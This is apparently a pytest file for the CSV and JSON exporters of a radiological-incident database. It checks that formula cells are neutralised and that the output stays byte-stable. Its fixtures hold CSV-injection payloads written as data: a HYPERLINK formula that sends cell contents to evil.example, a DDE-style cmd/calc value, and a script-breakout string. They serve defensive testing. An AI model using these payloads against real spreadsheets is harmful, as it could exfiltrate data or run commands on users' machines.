"""CSV and JSON exports: ITDB-like columns, formula cells neutralised, stable output."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

from flows.exports import csv_format, json_format
from flows.exports.columns import INCIDENT_COLUMNS
from nlp.vocabulary import ExportKind, Label, ReviewStatus, Tlp
from storage.exports import ExportedFinding, ExportSet
from storage.models import Finding
from tests.factories import exported_incident, incident_export

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for spreadsheets
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_has_itdb_columns_and_neutralised_formulas() -> None:
    hostile = exported_incident(1, title=FORMULA, place="+cmd|' /C calc'!A0", sources=("@SUM(1)",))
    (row,) = csv_rows(csv_format.write(incident_export(hostile)))
    assert tuple(row) == INCIDENT_COLUMNS
    assert row["title"] == f"'{FORMULA}"
    assert row["place"] == "'+cmd|' /C calc'!A0"
    assert row["sources"] == "'@SUM(1)"
    assert row["materials"].startswith("Cs-137, 3.7e+10 Bq, device: moisture gauge")
    assert row["iaea_category"] == "4"
    assert row["other_countries"] == "BE"
    assert row["latitude"] == "51.92" and row["marking"] == "TLP:GREEN"
    assert row["occurred_until"] == ""


def test_json_keeps_structure_and_text_as_data() -> None:
    hostile = exported_incident(1, title='"}] </script> \u202e', marking=Tlp.AMBER)
    document = json.loads(json_format.write(incident_export(hostile, exported_incident(2))))
    assert document["what"] == "incidents" and document["marking"] == "TLP:AMBER"
    first = document["records"][0]
    assert list(first) == list(INCIDENT_COLUMNS)
    assert first["title"] == '"}] </script> \u202e'
    assert first["materials"][0]["serial_number"] == "NG-1234"
    assert first["other_countries"] == ["BE"] and first["documents"] == [10]


def test_findings_rows() -> None:
    finding = Finding(
        id=7, document_id=3, label=Label.MATERIAL, text="=1+1", start=0, end=4,
        normalized="Cs-137", extractor="analyst", extractor_version="1",
        status=ReviewStatus.CORRECTED, reviewed_by="ana", attributes={"activity_bq": 1.0},
        created_at=datetime(2026, 1, 1), updated_at=datetime(2026, 1, 1),
    )  # fmt: skip
    exported = ExportedFinding(finding, Tlp.GREEN, datetime(2026, 2, 1).date())
    records = ExportSet(ExportKind.FINDINGS, Tlp.GREEN, findings=(exported,))
    (row,) = csv_rows(csv_format.write(records))
    assert row["text"] == "'=1+1" and row["status"] == "corrected"
    assert row["attributes"] == '{"activity_bq": 1.0}'
    (record,) = json.loads(json_format.write(records))["records"]
    assert record["document_date"] == "2026-02-01" and record["attributes"] == {"activity_bq": 1.0}


def test_same_data_gives_the_same_bytes() -> None:
    for writer in (csv_format.write, json_format.write):
        assert writer(incident_export(exported_incident(1))) == writer(
            incident_export(exported_incident(1))
        )
